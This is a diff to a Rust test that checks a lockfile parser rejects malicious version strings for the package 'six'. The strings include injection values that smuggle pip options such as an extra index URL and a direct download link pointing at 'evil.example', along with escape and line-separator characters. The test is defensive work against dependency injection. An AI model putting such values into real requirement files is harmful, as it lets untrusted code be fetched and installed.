@@ -20,23 +20,20 @@ fn one_name_in_two_spellings() {
 
 #[test]
 fn a_version_that_is_more_than_a_version() {
-    for (version, cause) in [
-        (
-            r"==1.0\n--extra-index-url https://evil.example/simple",
-            "values carry more than a value into the line that pip reads",
-        ),
-        (r"==1.0\u2028evil==6", "values carry more than a value into the line that pip reads"),
-        (r"==1.0 --hash=sha256:0", "values carry more than a value into the line that pip reads"),
-        (r"==1.0 # ", "values carry more than a value into the line that pip reads"),
-        (r"==1.0\u001b[2K", "values carry more than a value into the line that pip reads"),
-        ("-evil==1.0", "values carry more than a value into the line that pip reads"),
-        ("[evil]==1.0", "versions are no versions"),
-        (" @ https://evil.example/six.zip", "versions are no versions"),
-        ("1.0", "versions are no versions"),
-        ("==1.0; python_version > '3'", "versions are no versions"),
+    for version in [
+        r"==1.0\n--extra-index-url https://evil.example/simple",
+        r"==1.0\u2028evil==6",
+        "==1.0 --hash=sha256:0",
+        "==1.0 # ",
+        r"==1.0\u001b[2K",
+        "-evil==1.0",
+        "[evil]==1.0",
+        " @ https://evil.example/six.zip",
+        "1.0",
+        "==1.0; python_version > '3'",
     ] {
         let lockfile = of(&format!(r#""six": {{"version": "{version}"}}"#));
-        assert_eq!(causes(&lockfile).first(), Some(&cause), "{version}");
+        assert_eq!(causes(&lockfile), ["versions are no versions"], "{version}");
         assert_eq!(only(&lockfile).version(), None, "{version}");
     }
 }
